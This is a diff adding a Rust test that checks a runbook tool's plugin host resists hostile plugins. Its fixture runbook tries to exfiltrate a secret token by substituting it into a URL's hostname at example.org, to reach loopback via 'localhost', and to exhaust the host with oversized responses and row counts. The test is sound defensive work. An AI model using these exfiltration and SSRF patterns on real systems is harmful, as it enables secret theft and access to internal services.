@@ -534,6 +534,54 @@ fn a_dry_run_cannot_promote_or_write_even_when_the_plugin_tries() {
     assert!(out.contains("1 row(s), first: Some([Some(\"t\")])"), "{out}");
 }
 
+/// Plugin-side attacks on the host: a secret in the URL's host (the refusal used to quote the
+/// substituted host back), a granted name that resolves to loopback, an answer too large to
+/// hold, a query with too many rows.
+#[test]
+fn plugins_cannot_read_secrets_reach_loopback_by_name_or_exhaust_the_host() {
+    let port = free_port();
+    let big = "x".repeat(5 << 20);
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    let app = axum::Router::new().route(
+        "/big",
+        axum::routing::get(move || {
+            let b = big.clone();
+            async move { b }
+        }),
+    );
+    rt.spawn(async move {
+        let l = tokio::net::TcpListener::bind(("127.0.0.1", port)).await.unwrap();
+        axum::serve(l, app).await.unwrap();
+    });
+    let pg = Pg::start("", vec![]);
+    let step = |name: &str, with: &str, grants: &str| {
+        format!("[[runbook.step]]\nname = \"{name}\"\nplugin = \"fixture\"\nwith = {{ {with} }}\ngrants = {{ {grants} }}\non-failure = \"continue\"\n")
+    };
+    let text = format!(
+        "[[runbook]]\nname = \"hostile\"\nsecrets = {{ token = \"env:TEST_TOKEN\" }}\nconnections = {{ db = \"env:TEST_DSN\" }}\n{}{}{}{}",
+        step("steal", "mode = \"http\", url = \"http://${secret:token}.example.org/\", needs-secret = \"token\"", "http = [\"example.org\"], secrets = [\"token\"]"),
+        step("by-name", &format!("mode = \"http\", url = \"http://localhost:{port}/big\""), "http = [\"localhost\"]"),
+        step("big", &format!("mode = \"http\", url = \"http://127.0.0.1:{port}/big\""), "http = [\"127.0.0.1\"]"),
+        step("rows", "mode = \"sql\", connection = \"db\", statement = \"SELECT generate_series(1, 20000)\", needs-connection = \"db\"", "connections = [\"db\"]"),
+    );
+    let mut b = Books::new(&text);
+    b.env.push(("TEST_TOKEN".into(), "tok-secret-4242".into()));
+    b.env.push(("TEST_DSN".into(), pg.dsn()));
+    let out = b.run(&["failover", "hostile", "--yes"]);
+    let o = format!(
+        "{}{}{}",
+        stdout(&out),
+        stderr(&out),
+        std::fs::read_to_string(b.path("state/runbooks/audit.log")).unwrap_or_default()
+    );
+    assert!(o.contains("secrets are not allowed in a URL's host, port or user info"), "{o}");
+    assert!(!o.contains("tok-secret-4242"), "the secret reached the plugin or the log: {o}");
+    assert!(o.contains("`localhost` resolves to 127.0.0.1, a loopback, link-local or metadata address"), "{o}");
+    assert!(o.contains(&format!("is larger than {} bytes", 4 << 20)), "{o}");
+    assert!(o.contains("returned more than 10000 rows"), "{o}");
+    drop(rt);
+}
+
 /// A PowerDNS authoritative server with the sqlite backend and the HTTP API on 127.0.0.1.
 struct Pdns {
     _dir: tempfile::TempDir,
